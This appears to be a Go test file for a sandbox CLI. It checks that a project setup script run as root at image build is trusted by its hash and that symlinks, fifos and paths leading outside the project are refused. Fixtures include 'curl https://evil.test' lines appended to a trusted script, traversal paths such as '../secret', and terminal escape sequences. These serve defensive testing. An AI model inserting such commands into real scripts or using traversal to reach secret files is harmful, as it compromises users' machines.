package cli

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/sys/unix"

	"ai-sandbox/image"
)

// A script of the project's is trusted by its content: the sandboxed command can
// write it, and it runs where no gate is.
func TestSetupInProject(t *testing.T) {
	s := newStage(t)
	script := filepath.Join(s.project, "tools/setup.sh")
	const text = "#!/bin/bash\nset -e\n\tcurl 'https://x.test/\\n' \x1b]0;title\x07 é\n"
	s.write(script, text)
	s.trustFile("setup = tools/setup.sh\n")
	want := "  + setup = tools/setup.sh  # widens\n" +
		"  + [tools/setup.sh, which is run as root when the image is built]\n" +
		"  + | #!/bin/bash\n  + | set -e\n  + | \\tcurl 'https://x.test/\\n' \\x1b]0;title\\a \\u00e9\n"
	if code := s.do("--print-policy"); code != 125 || !strings.Contains(s.err.String(), want) {
		t.Fatalf("before it is trusted: exit %d: %s", code, s.err.String())
	}
	if code := s.do("trust", "--yes"); code != 0 || !strings.Contains(s.out.String(), "+ | set -e\n") || strings.ContainsRune(s.out.String(), 0x1b) {
		t.Fatalf("trust: exit %d: %q %s", code, s.out.String(), s.err.String())
	}
	// The positive control: trusted, it counts, and is shown with its hash.
	p := s.policy("pi")
	if p.Image.Setup == nil || p.Image.Setup.Path != "tools/setup.sh" || p.Image.Setup.SHA256 != image.SetupSHA256([]byte(text)) {
		t.Errorf("the policy has %+v", p.Image.Setup)
	}
	if code := s.do("--print-policy"); code != 0 || !strings.Contains(s.out.String(), "sha256:"+image.SetupSHA256([]byte(text))) {
		t.Errorf("the text: exit %d: %s", code, s.out.String())
	}
	if code := s.do("trust"); code != 0 || !strings.Contains(s.err.String(), "nothing has changed") {
		t.Errorf("trust again: exit %d: %s", code, s.err.String())
	}
	// One byte more, and every run stops with the difference.
	s.write(script, text+"curl https://evil.test\n")
	for _, args := range [][]string{{"--print-policy"}, {"build"}, {"--", "true"}} {
		if code := s.do(args...); code == 0 || !strings.Contains(s.err.String(), "  + | curl https://evil.test\n") || !strings.Contains(s.err.String(), "is not what was trusted") {
			t.Errorf("%q: exit %d: %s", args, code, s.err.String())
		}
	}
	if s.ran != nil || len(s.called) > 0 {
		t.Errorf("it ran: %v, %q", s.ran, s.called)
	}
	if code := s.do("--print-policy", "--ignore-project-config"); code != 0 || strings.Contains(s.out.String(), "setup") {
		t.Errorf("without the file: exit %d: %s", code, s.err.String())
	}
	// As it was.
	s.write(script, text)
	if code := s.do("--print-policy"); code != 0 {
		t.Errorf("as it was: exit %d: %s", code, s.err.String())
	}
	// A script of a profile that is not chosen is shown, too, and changes with it.
	if code := s.do("trust", "--revoke"); code != 0 {
		t.Fatal(s.err.String())
	}
	s.trustFile("fs = ro\n[profile big]\nsetup = tools/setup.sh\n")
	if code := s.do("--print-policy"); code != 0 {
		t.Errorf("not chosen: exit %d: %s", code, s.err.String())
	}
	if code := s.do("--print-policy", "--profile", "big"); code != 125 || !strings.Contains(s.err.String(), "| set -e") {
		t.Errorf("chosen: exit %d: %s", code, s.err.String())
	}
}

// Whatever lies in the place of a script is read without following it, and without
// waiting.
func TestSetupBeneathProject(t *testing.T) {
	s := newStage(t)
	outside := filepath.Join(s.env["HOME"], "secret")
	s.write(outside, "canary-outside")
	s.write(filepath.Join(s.project, "plain"), "true\n")
	for name, to := range map[string]string{"link": outside, "inside": "plain", "dir": filepath.Dir(outside)} {
		if err := os.Symlink(to, filepath.Join(s.project, name)); err != nil {
			t.Fatal(err)
		}
	}
	if err := unix.Mkfifo(filepath.Join(s.project, "fifo"), 0o600); err != nil {
		t.Fatal(err)
	}
	s.write(filepath.Join(s.project, "binary"), "\x7fELF\x00")
	s.write(filepath.Join(s.project, "long"), strings.Repeat("#", image.MaxSetup+1))
	for value, want := range map[string]string{
		"plain": "", "link": "is a symlink", "inside": "is a symlink", "dir/secret": "lies behind what is not a directory", "fifo": "is not a regular file",
		".": "is not a path in the project", "..": "is not a path in the project", "../secret": "is not a path in the project", "a/../plain": "is not a path in the project",
		outside: "is not a path in the project", "~/secret": "is not a path in the project", "~": "is not a path in the project", "./~/secret": "is not a path in the project", "nowhere": "does not exist", "plain/x": "lies behind what is not a directory",
		".ai-sandbox": "is not a regular file", "binary": "is not a text", "long": "is longer than 64 KiB",
	} {
		s.trustFile("setup = " + value + "\n")
		code := s.do("trust", "--yes")
		if want == "" && code != 0 || want != "" && (code == 0 || !strings.Contains(s.err.String(), want)) {
			t.Errorf("%s: exit %d: %s", value, code, s.err.String())
		}
		if strings.Contains(s.out.String()+s.err.String(), "canary") {
			t.Errorf("%s is followed: %s", value, s.out.String())
		}
	}
}

// A directory of the project's that is called ~ is not the user's home: the words of
// his own file are no trust in a script there.
func TestSetupCalledHome(t *testing.T) {
	for _, section := range []string{"", "[profile gated]\n"} {
		s := newStage(t)
		s.write(filepath.Join(s.env["HOME"], "setup.sh"), "true\n")
		s.write(filepath.Join(s.project, "~/setup.sh"), "curl https://evil.test\n")
		s.write(s.config, section+"setup = ~/setup.sh\n")
		mine := "sha256:" + image.SetupSHA256([]byte("true\n"))
		if code := s.do("--print-policy", "--profile", "gated"); code != 0 || !strings.Contains(s.out.String(), mine) {
			t.Errorf("%q: the user's own: exit %d: %s", section, code, s.err.String())
		}
		s.trustFile(section + "setup = ~/setup.sh\n")
		if code := s.do("--print-policy", "--profile", "gated"); code != 125 || !strings.Contains(s.err.String(), "is not a path in the project") || s.out.Len() > 0 {
			t.Errorf("%q: exit %d: %s%s", section, code, s.out.String(), s.err.String())
		}
	}
}

// What the user names himself is read where no sandbox writes.
func TestSetupOfTheUser(t *testing.T) {
	s := newStage(t)
	mine := filepath.Join(s.env["HOME"], "setup.sh")
	s.write(mine, "true\n")
	if err := os.Symlink(mine, filepath.Join(s.project, "link")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(s.project, "x.sh"), filepath.Join(s.env["HOME"], "led")); err != nil {
		t.Fatal(err)
	}
	s.write(filepath.Join(s.project, "x.sh"), "true\n")
	for value, ok := range map[string]bool{
		mine: true, "~/setup.sh": true, "../setup.sh": true,
		"x.sh": false, "link": false, "~/led": false, filepath.Join(s.project, "x.sh"): false, s.env["HOME"]: false,
	} {
		code := s.do("--print-policy", "--setup", value)
		if ok != (code == 0) || ok && !strings.Contains(s.out.String(), "sha256:"+image.SetupSHA256([]byte("true\n"))) {
			t.Errorf("--setup %s: exit %d: %s%s", value, code, s.out.String(), s.err.String())
		}
	}
	s.write(s.config, "setup = ~/setup.sh\napt = gcc\n")
	if p := s.policy("--apt", "gdb", "pi"); p.Image.Setup == nil || len(p.Image.Apt) != 2 {
		t.Errorf("the policy has %+v", p.Image)
	}
	s.write(s.config, "setup = x.sh\n")
	if code := s.do("--print-policy"); code != 125 || !strings.Contains(s.err.String(), "is not an absolute path") {
		t.Errorf("exit %d: %s", code, s.err.String())
	}
}
